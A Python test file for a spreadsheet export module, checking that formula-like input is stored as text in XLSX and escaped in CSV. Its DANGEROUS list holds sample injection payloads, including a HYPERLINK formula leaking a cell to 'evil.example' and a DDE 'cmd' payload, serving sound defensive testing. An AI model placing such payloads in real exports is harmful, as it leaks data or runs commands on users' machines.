"""Formula injection: text that looks like a formula is stored, shown and read back as text."""

import datetime
import io

import pytest
from openpyxl import load_workbook

from branch.spreadsheets import XLSX_CONTENT_TYPE, build_xlsx, csv_safe, xlsx_response

DANGEROUS = [
    '=HYPERLINK("http://evil.example/?leak="&A2,"点击查看")',
    "=1+2",
    "+86 138 0000 0000",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=cmd|' /C calc'!A0",
]


def read_back(data: bytes):
    return load_workbook(io.BytesIO(data)).active


@pytest.mark.parametrize("value", DANGEROUS)
def test_formula_like_text_reads_back_as_a_string_cell(value):
    sheet = read_back(build_xlsx([("名单", ["姓名"], [[value]])]))
    cell = sheet["A2"]
    assert cell.data_type == "s"
    assert cell.value == value


def test_carriage_return_prefix_is_text_too():
    # XML turns the CR into LF on reading; what matters is that it is not a formula.
    sheet = read_back(build_xlsx([("名单", ["姓名"], [["\r=1"]])]))
    assert sheet["A2"].data_type == "s" and sheet["A2"].value.endswith("=1")


def test_the_workbook_contains_no_formula_at_all():
    import zipfile

    data = build_xlsx([("名单", ["姓名", "备注"], [[v, v] for v in DANGEROUS])])
    with zipfile.ZipFile(io.BytesIO(data)) as package:
        sheet_xml = package.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml


def test_numbers_and_dates_keep_their_types():
    day = datetime.date(2026, 5, 1)
    sheet = read_back(build_xlsx([("台账", ["数", "负数", "日期"], [[3, -5, day]])]))
    assert sheet["A2"].value == 3 and sheet["A2"].data_type == "n"
    assert sheet["B2"].value == -5 and sheet["B2"].data_type == "n"
    assert sheet["C2"].value.date() == day and sheet["C2"].number_format == "yyyy-mm-dd"


def test_plain_chinese_text_is_unchanged():
    sheet = read_back(build_xlsx([("名单", ["姓名"], [["张正式"]])]))
    assert sheet["A2"].value == "张正式"


def test_long_sheet_titles_are_cut_to_excel_limit():
    sheet = read_back(build_xlsx([("长" * 40, ["a"], [])]))
    assert len(sheet.title) == 31


def test_xlsx_response_is_an_attachment_with_a_utf8_name():
    response = xlsx_response("花名册.xlsx", [("名单", ["姓名"], [["=1+1"]])])
    assert response["Content-Type"] == XLSX_CONTENT_TYPE
    assert response["Content-Disposition"].startswith("attachment; filename*=UTF-8''")
    assert "%E8%8A%B1" in response["Content-Disposition"]
    assert read_back(response.content)["A2"].data_type == "s"


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=HYPERLINK(1)", "'=HYPERLINK(1)"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@x", "'@x"),
        ("\t=1", "'\t=1"),
        ("张三", "张三"),
        ("a=b", "a=b"),
        (None, ""),
        (12, "12"),
    ],
)
def test_csv_safe(value, expected):
    assert csv_safe(value) == expected
